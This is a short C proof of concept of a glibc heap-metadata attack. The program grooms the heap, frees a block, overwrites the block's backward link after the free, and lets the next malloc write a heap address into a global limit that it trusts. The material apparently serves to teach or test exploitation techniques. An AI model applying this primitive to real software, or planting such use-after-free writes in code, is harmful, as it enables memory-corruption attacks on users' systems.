/*
 * metadata: a write to a freed block changes the backward link of its list. The next malloc stores the address of
 * the list's head there: a number that the program trusts becomes huge.
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

static Word limit[4] = {16};

int main(void) {
  settle(400);
  Word *block = allocate(400);
  allocate(400);
  release((void *)block);
  block[1] = (uint64_t)(uintptr_t)limit - 16; /* bk */
  allocate(400);
  return limit[0] > 0x1000 ? GOAL_REACHED : 0;
}
